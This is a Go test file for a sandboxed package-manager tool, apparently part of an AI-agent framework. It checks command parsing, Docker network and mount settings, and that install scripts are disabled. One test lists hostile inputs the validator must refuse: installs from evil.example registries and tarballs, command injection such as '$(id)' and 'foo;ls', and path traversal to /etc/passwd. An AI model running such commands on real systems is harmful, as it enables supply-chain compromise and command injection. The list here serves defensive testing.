package codeexec

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/helve-dev/helve/internal/ports/docker"
	"github.com/helve-dev/helve/internal/ports/docker/dockertest"
	"github.com/helve-dev/helve/tool"
	"github.com/helve-dev/helve/tool/tooltest"
)

func TestPackageManager(t *testing.T) {
	failures(t, "package_manager", `{"command":"npm install lodash"}`)
	e := dockertest.Start(t, &dockertest.Engine{Run: func(b *dockertest.Box) dockertest.Exit {
		_, _ = b.Stdout.Write([]byte("added 1 package"))
		return dockertest.Exit{}
	}})
	dir := t.TempDir()
	port := func(o docker.Options, within ...tool.Scopes) tool.Call {
		o.Host, o.User = e.Host, "1000:1000"
		o.Dir = func(string, string) (string, error) { return dir, nil }
		d, err := docker.New(o)
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { _ = d.Close() })
		containers, _ := d.For("acme", "u1", within...)
		return tool.Call{Containers: containers}
	}
	tooltest.Run(t, Set, "package_manager", port(docker.Options{Network: "bridge"}), []tooltest.Case{
		{Name: "install", Args: `{"manager":"npm","command":"install lodash"}`,
			Want: `{"stdout":"added 1 package","stderr":"","exitCode":0,"manager":"npm","subcommand":"install",
			"sandboxed":true,"executionMode":"docker","dockerImage":"node:22-slim","relaxedSecurity":false}`},
	})
	made := e.Made()[0].Request
	if made.HostConfig.NetworkMode != "bridge" || len(made.HostConfig.Mounts) != 1 || made.HostConfig.Mounts[0].Source != dir {
		t.Errorf("asked for network %q and mounts %+v, want the network and the workspace", made.HostConfig.NetworkMode, made.HostConfig.Mounts)
	}
	tooltest.Run(t, Set, "package_manager", port(docker.Options{}), []tooltest.Case{
		{
			Name:    "no network",
			Args:    `{"manager":"pip","command":"install requests"}`,
			Fails:   tool.NotConfigured,
			Message: "No network is configured",
		},
		{Name: "no network needed", Args: `{"manager":"pip","command":"list"}`,
			Want: `{"stdout":"added 1 package","stderr":"","exitCode":0,"manager":"pip","subcommand":"list",
			"sandboxed":true,"executionMode":"docker","dockerImage":"python:3.13-slim","relaxedSecurity":false}`},
	})
	tooltest.Run(t, Set, "package_manager", port(docker.Options{}, tool.Scopes{Paths: []string{"a"}}), []tooltest.Case{
		{Name: "a part of the workspace", Args: `{"manager":"pip","command":"list"}`, Fails: tool.PathNotAllowed, Message: "whole workspace"},
	})
}

func TestOrders(t *testing.T) {
	for _, tt := range []struct {
		manager, text, command string
		network                bool
	}{
		{"npm", "install", "npm install", true},
		{"npm", "npm i -D typescript @types/node@^22.1.0 lodash@latest", "npm i -D typescript @types/node@^22.1.0 lodash@latest", true},
		{"", "npm install --omit=dev --depth 0", "npm install --omit=dev --depth 0", true},
		{"npm", "uninstall left-pad", "npm uninstall left-pad", true},
		{"npm", "ls --json", "npm ls --json", false},
		{"npm", `install "react@>=18 <20"`, "npm install react@>=18 <20", true},
		{"npm", "view lodash version", "npm view lodash version", true},
		{"npm", "init -y", "npm init --yes -y", false},
		{"npm", "run build:all", "npm run build:all", false},
		{"npm", "run", "npm run", false},
		{"npm", "--version", "npm --version", false},
		{"yarn", "add react react-dom@18 --exact", "yarn add --ignore-scripts react react-dom@18 --exact", true},
		{"pnpm", "add vite", "corepack pnpm add vite", true},
		{
			"", "pip install requests>=2.31,<3 'uvicorn[standard]==0.30.*' numpy -U",
			"pip install requests>=2.31,<3 uvicorn[standard]==0.30.* numpy -U", true,
		},
		{"", "pip3 install -r requirements.txt -c ./sub/limits.txt", "pip install -r requirements.txt -c ./sub/limits.txt", true},
		{"pip", "pip3 list --format=json", "pip list --format=json", false},
		{"pip", "uninstall Requests", "pip uninstall --yes Requests", false},
	} {
		o, err := orderOf(tt.manager, tt.text)
		if err != nil {
			t.Errorf("%s %q: %v", tt.manager, tt.text, err)
			continue
		}
		if got := strings.Join(o.command, " "); got != tt.command || o.network != tt.network {
			t.Errorf("%s %q became %q with network %v, want %q with %v", tt.manager, tt.text, got, o.network, tt.command, tt.network)
		}
	}
}

func TestOrdersRefused(t *testing.T) {
	for message, orders := range map[string][]string{
		"is not the name of a package": {
			"npm install ../evil", "npm install ./x", "npm install /etc", "npm install https://evil.example/x.tgz", "npm install git+ssh://x/y",
			"npm install user/repo", "npm install foo@npm:bar", "npm install foo@file:../x", "npm install foo;ls", "npm install $(id)",
			"npm install a|b", "npm install ''", "npm install .", "npm install foo@", "npm install " + strings.Repeat("a", 215), "pip install ./x",
			"pip install git+https://x/y", "pip install x@https://evil.example/x.whl", "pip install 'x @ file:///etc'", "pip install x.whl/",
			"pip install x==1;python_version", "pip show x==1", "npm uninstall x@1", "npm run a/b", "npm search /etc",
		},
		"is not allowed here": {
			"npm install --registry=http://evil.example x", "npm install --registry http://evil.example x", "npm install -g x",
			"npm install --prefix /tmp x", "npm install --no-ignore-scripts", "npm install --ignore-scripts=false",
			"npm install --foreground-scripts", "npm install --script-shell=/bin/x", "npm install --save-dev=1", "npm install --omit",
			"pip install -i http://evil.example x", "pip install --index-url=http://evil.example x", "pip install --extra-index-url http://e x",
			"pip install -t /tmp x", "pip install -e .", "pip install --no-binary :all: x", "pip install -f http://e x",
			"pip install --trusted-host e x", "pip install -rrequirements.txt", "yarn add --cwd / x", "pnpm add -C / x", "npm ls -- x",
			"npm run -- x",
		},
		"cannot be the value of": {
			"pip install -r ../x", "pip install -r /etc/passwd", "pip install -r http://e/x", "pip install --requirement=a/../../x",
			"pip list --format='a b'", "npm install --omit=$(id)", "npm install --omit=",
			"pip install -r ''", "pip install -r --index-url",
		},
		"cannot be told": {
			"npm publish", "npm exec x", "npm login", "npm token list", "npm config set registry x", "npm --registry=http://evil.example install x",
			"npm link", "npx x", "npm INSTALL", "pip download x", "pip config list", "pip wheel x", "yarn dlx x", "pnpm dlx x", "pip -r x install",
		},
		"does not take":           {"npm ci x", "npm run a b", "pip list x", "npm init evil", "npm audit fix", "yarn install x", "npm test x"},
		"takes the name of":       {"npm run --silent"},
		"The command is empty":    {"npm", "npm ''"},
		"Which package manager?":  {"install x", "apt install x", "cargo add x", "npm3 install x"},
		"A quote in command":      {"npm install 'x"},
		"has 102 words":           {"npm" + strings.Repeat(" a", 101)},
		"must not contain a zero": {"npm install a\x00b"},
	} {
		for _, text := range orders {
			name := ""
			if text == "npx x" {
				name = "npm"
			}
			o, err := orderOf(name, text)
			failure := tool.AsError(err)
			if failure == nil || failure.Kind != tool.ValidationError || !strings.Contains(failure.Msg, message) && text != "npm ''" {
				t.Errorf("%q: %+v, %v, want a validation_error with %q", text, o, err, message)
			}
		}
	}
	tooltest.Run(t, Set, "package_manager", tool.Call{Containers: &record{}}, []tooltest.Case{
		{Name: "no command", Args: `{"manager":"npm"}`, Fails: tool.ValidationError, Message: "command"},
		{Name: "manager", Args: `{"manager":"cargo","command":"add x"}`, Fails: tool.ValidationError, Message: "yarn"},
		{
			Name:    "two managers",
			Args:    `{"manager":"pip","command":"npm install x"}`,
			Fails:   tool.ValidationError,
			Message: "leave one of them out",
		},
		{Name: "before anybody is asked", Args: `{"command":"npm publish"}`, Fails: tool.ValidationError, Message: "cannot be told 'publish'"},
	})
}

// No script of a package runs, whichever manager installs it.
func TestScriptsAreOff(t *testing.T) {
	for command, want := range map[string]string{
		"npm install x": "npm_config_ignore_scripts=true", "pnpm add x": "npm_config_ignore_scripts=true",
		"pip install x": "PIP_ONLY_BINARY=:all:",
	} {
		r := &record{}
		if _, err := packageManager(t.Context(), &tool.Call{Containers: r}, packageManagerArgs{Command: command}); err != nil {
			t.Fatal(err)
		}
		if env := "\n" + strings.Join(r.asked.Env, "\n") + "\n"; !strings.Contains(env, "\n"+want+"\n") || !r.asked.Workspace ||
			r.asked.ReadOnly {
			t.Errorf("%s runs with %q in %+v, want %s and the workspace", command, env, r.asked, want)
		}
	}
}

func FuzzOrder(f *testing.F) {
	f.Add("npm", "install -D a@1 --omit=dev")
	f.Add("pip", "install 'x[y]>=1,<2' -r requirements.txt")
	f.Fuzz(func(t *testing.T, manager, text string) {
		o, err := orderOf(manager, text)
		if err != nil {
			if failure := tool.AsError(err); failure.Kind != tool.ValidationError {
				t.Errorf("%q %q: %v", manager, text, err)
			}
			return
		}
		if diff := cmp.Diff(o.manager.program, o.command[:len(o.manager.program)]); diff != "" ||
			strings.Contains(strings.Join(o.command, " "), "://") {
			t.Errorf("%q %q became %q", manager, text, o.command)
		}
	})
}
